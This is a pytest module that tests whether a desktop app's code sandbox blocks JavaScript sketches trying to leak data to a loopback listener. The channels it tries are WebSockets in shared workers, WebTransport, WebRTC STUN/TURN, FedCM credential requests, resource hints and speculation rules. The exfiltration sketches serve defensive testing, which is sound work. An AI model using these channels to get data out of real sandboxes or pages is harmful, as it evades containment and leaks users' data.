"""Channels out of the code sandbox that bypass the request interceptor: none may reach a listener.

Every test opens a listener on 127.0.0.1, runs a hostile sketch against it and waits until
the page reports that its attempt is over (or until something arrived, so a leak fails at
once). The layers that close each channel are listed in ``docs/sandbox.md``; every test
runs three times: with all layers, without the page script (harden.js) and without the
response headers (CSP, Permissions-Policy), so that no channel rests on one layer alone
where two are claimed. (The Chromium switches are process-wide and cannot be left out here.)
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from ai4artsed_desktop.ui import sandbox_scheme
from ai4artsed_desktop.ui.widgets import code_sandbox
from ai4artsed_desktop.ui.widgets.code_sandbox import CodeSandbox
from tests.ui.loopback import Arrivals, listening
from tests.ui.test_code_sandbox import WEB_ENGINE_START, evaluate, run_code

pytestmark = [
    pytest.mark.qt_log_ignore(*WEB_ENGINE_START),
    pytest.mark.usefixtures("expect_log_warnings"),  # blocked requests are logged as warnings
]


@pytest.fixture(autouse=True, params=["all layers", "without harden.js", "without headers"])
def layers(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Which layers the next Play gets (the sandbox fixture is shared by the module)."""
    if request.param == "without harden.js":
        make = sandbox_scheme.make_sandbox_profile

        def without_script(*args: Any, **kwargs: Any) -> sandbox_scheme.SandboxProfile:
            made = make(*args, **kwargs)
            made.profile.scripts().clear()
            return made

        monkeypatch.setattr(code_sandbox, "make_sandbox_profile", without_script)
    elif request.param == "without headers":
        monkeypatch.setattr(sandbox_scheme, "RESPONSE_HEADERS", {})
    monkeypatch.setattr(_Current, "layers", str(request.param))
    return str(request.param)


class _Current:
    layers = "all layers"


# What the page sees of the layers: harden.js's hand-over function, the Permissions-Policy.
_LAYERS_PRESENT = """JSON.stringify([
  typeof window.__ai4aHardened === "function",
  !document.featurePolicy.allowsFeature("identity-credentials-get"),
])"""
_EXPECTED_LAYERS = {
    "all layers": [True, True],
    "without harden.js": [False, True],
    "without headers": [True, False],
}


# Every sketch below sets window.__done (a short word saying how its attempt ended).
ATTEMPT_MS = 30_000


def attempt(qtbot: Any, sandbox: CodeSandbox, code: str, *listeners: Arrivals) -> str:
    """Run ``code``; its end marker once it is set, unless a listener got something first."""
    run_code(qtbot, sandbox, "window.__done = null;\n" + code)
    assert evaluate(qtbot, sandbox, _LAYERS_PRESENT) == _EXPECTED_LAYERS[_Current.layers]
    marker: list[Any] = []

    def over() -> bool:
        if any(listener.count() for listener in listeners):
            return True
        value = evaluate(qtbot, sandbox, "JSON.stringify(window.__done)")
        if value is not None:
            marker.append(value)
        return bool(marker)

    qtbot.waitUntil(over, timeout=ATTEMPT_MS)
    arrived = {listener.port: listener.items for listener in listeners if listener.count()}
    assert arrived == {}, f"the sandbox reached a listener: {str(arrived)[:600]}"
    return str(marker[0])


# A SharedWorker that opens a WebSocket and tells the page how it went.
_SOCKET_WORKER = """onconnect = (event) => {
  const port = event.ports[0];
  try {
    const socket = new WebSocket("ws://127.0.0.1:%d/shared?secret=sketch-data");
    socket.onopen = () => { socket.send("sketch-data"); port.postMessage("open"); };
    socket.onerror = () => port.postMessage("error");
  } catch (error) {
    port.postMessage("refused");
  }
};"""

_SHARED_WORKER_PAGE = """const source = %s;
const url = %s;
try {
  const worker = new SharedWorker(url);
  worker.onerror = () => { window.__done = "worker refused"; };
  worker.port.onmessage = (event) => { window.__done = event.data; };
  worker.port.start();
} catch (error) {
  window.__done = "worker refused";
}
"""


@pytest.mark.parametrize("origin", ["blob", "data"])
def test_a_websocket_in_a_shared_worker_reaches_nothing(
    qtbot: Any, sandbox: CodeSandbox, origin: str
) -> None:
    with listening("tcp") as server:
        source = json.dumps(_SOCKET_WORKER % server.port)
        if origin == "blob":
            url = "URL.createObjectURL(new Blob([source], { type: 'text/javascript' }))"
        else:
            url = "'data:text/javascript,' + encodeURIComponent(source)"
        attempt(qtbot, sandbox, _SHARED_WORKER_PAGE % (source, url), server)


_WEB_TRANSPORT = """async function open(where) {
  try {
    const transport = new WebTransport("https://127.0.0.1:%d/" + where + "?secret=sketch-data", {
      serverCertificateHashes: [{ algorithm: "sha-256", value: new Uint8Array(32) }],
    });
    await transport.ready;
    return "open";
  } catch (error) {
    return "refused";
  }
}
"""


def test_web_transport_reaches_nothing_from_the_page(qtbot: Any, sandbox: CodeSandbox) -> None:
    with listening("udp") as server:
        code = (_WEB_TRANSPORT % server.port) + (
            "window.__webTransport = typeof WebTransport;\n"
            "(typeof WebTransport === 'undefined' ? Promise.resolve('absent') : open('page'))"
            ".then((how) => { window.__done = how; });\n"
        )
        attempt(qtbot, sandbox, code, server)


def test_web_transport_reaches_nothing_from_a_worker(qtbot: Any, sandbox: CodeSandbox) -> None:
    with listening("udp") as server:
        worker = (_WEB_TRANSPORT % server.port) + (
            "(typeof WebTransport === 'undefined' ? Promise.resolve('absent') : open('worker'))"
            ".then((how) => postMessage(how));\n"
        )
        code = f"""const source = {json.dumps(worker)};
try {{
  const worker = new Worker(URL.createObjectURL(new Blob([source], {{ type: "text/javascript" }})));
  worker.onmessage = (event) => {{ window.__done = event.data; }};
  worker.onerror = () => {{ window.__done = "worker refused"; }};
}} catch (error) {{
  window.__done = "worker refused";
}}
"""
        attempt(qtbot, sandbox, code, server)


# Peer connections from the top window and from a fresh iframe's realm: STUN over UDP and
# TURN over TCP, with ICE gathering reported complete (or the constructor missing).
_PEER_CONNECTION = """async function gather(Connection, where) {
  if (typeof Connection !== "function") { return where + ": absent"; }
  let connection;
  try {
    connection = new Connection({ iceServers: [
      { urls: "stun:127.0.0.1:%d" },
      { urls: "turn:127.0.0.1:%d?transport=tcp", username: "sketch-data", credential: "x" },
    ] });
  } catch (error) {
    return where + ": refused";
  }
  connection.createDataChannel("leak");
  await connection.setLocalDescription(await connection.createOffer());
  await new Promise((resolve) => {
    if (connection.iceGatheringState === "complete") { resolve(); return; }
    connection.onicegatheringstatechange = () => {
      if (connection.iceGatheringState === "complete") { resolve(); }
    };
  });
  connection.close();
  return where + ": gathered";
}
function frameRealm() {
  const frame = document.createElement("iframe");
  document.body.append(frame);
  return frame.contentWindow;
}
(async () => {
  const results = [];
  for (const [realm, where] of [[window, "top"], [frameRealm(), "iframe"]]) {
    try {
      results.push(await gather(realm && realm.RTCPeerConnection, where));
    } catch (error) {
      results.push(where + ": " + error.name);
    }
  }
  window.__done = results.join(", ");
})();
"""


@pytest.mark.parametrize("server", ["stun", "turn"])
def test_webrtc_from_any_realm_reaches_neither_stun_nor_turn(
    qtbot: Any, sandbox: CodeSandbox, server: str
) -> None:
    # STUN over UDP and TURN over TCP are separate tests: either alone is a way out.
    with listening("udp" if server == "stun" else "tcp") as listener:
        stun = listener.port if server == "stun" else 9
        turn = listener.port if server == "turn" else 9
        code = _PEER_CONNECTION.replace("stun:127.0.0.1:%d", f"stun:127.0.0.1:{stun}")
        code = code.replace("turn:127.0.0.1:%d", f"turn:127.0.0.1:{turn}")
        if server == "turn":
            code = code.replace('{ urls: "stun:127.0.0.1:9" },', "")
        else:
            code = code.replace(
                '{ urls: "turn:127.0.0.1:9?transport=tcp", username: "sketch-data", '
                'credential: "x" },',
                "",
            )
        attempt(qtbot, sandbox, code, listener)


def test_fedcm_fetches_nothing(qtbot: Any, sandbox: CodeSandbox) -> None:
    with listening("tcp") as provider:
        code = f"""(async () => {{
  try {{
    await navigator.credentials.get({{ identity: {{ providers: [{{
      configURL: "http://127.0.0.1:{provider.port}/config.json?secret=sketch-data",
      clientId: "sketch-data",
      nonce: "sketch-data",
    }}] }} }});
    window.__done = "signed in";
  }} catch (error) {{
    window.__done = error.name;
  }}
}})();
"""
        attempt(qtbot, sandbox, code, provider)


# Resource hints and speculation: the browser itself would connect (and send the host name
# in the TLS ClientHello) without any request the interceptor sees. A blocked fetch to the
# same host afterwards is the page's sign that the hints were handed to the browser.
_HINTS = """const base = "https://secret-sketch-data.localhost:%d";
for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload"]) {
  const link = document.createElement("link");
  link.rel = rel;
  link.href = base + "/" + rel;
  if (rel === "preload") { link.as = "fetch"; link.crossOrigin = "anonymous"; }
  document.head.append(link);
}
const rules = document.createElement("script");
rules.type = "speculationrules";
rules.textContent = JSON.stringify(
  { prefetch: [{ source: "list", urls: [base + "/speculation"] }] });
document.head.append(rules);
setTimeout(() => {
  fetch(base + "/after").then(
    () => { window.__done = "fetched"; }, () => { window.__done = "refused"; });
}, 0);
"""


def test_resource_hints_open_no_connection(qtbot: Any, sandbox: CodeSandbox) -> None:
    with listening("tcp") as server:
        assert attempt(qtbot, sandbox, _HINTS % server.port, server) == "refused"
        # All five hints are in the page (the round trip also gives a connection that was
        # still in flight time to land).
        links = "JSON.stringify(document.head.querySelectorAll('link[href]').length)"
        assert evaluate(qtbot, sandbox, links) == 5
        assert server.count() == 0
